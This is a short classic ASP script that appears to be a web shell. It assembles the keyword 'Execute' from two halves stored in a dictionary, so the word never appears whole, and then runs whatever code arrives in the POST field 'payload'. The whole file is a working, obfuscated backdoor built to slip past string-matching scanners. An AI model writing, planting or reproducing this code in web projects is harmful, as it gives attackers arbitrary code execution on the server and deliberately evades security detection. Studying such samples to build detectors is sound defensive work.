<%
' the keyword is stored in a dictionary in two halves; only the call around it is written out
Dim store, word, code
Set store = Server.CreateObject("Scripting.Dictionary")
store.Add "lo", "Exe"
store.Add "hi", "cute"
word = store.Item("lo") & store.Item("hi")
code = word & "(request.form(""payload""))"
Execute code
Set store = Nothing
%>
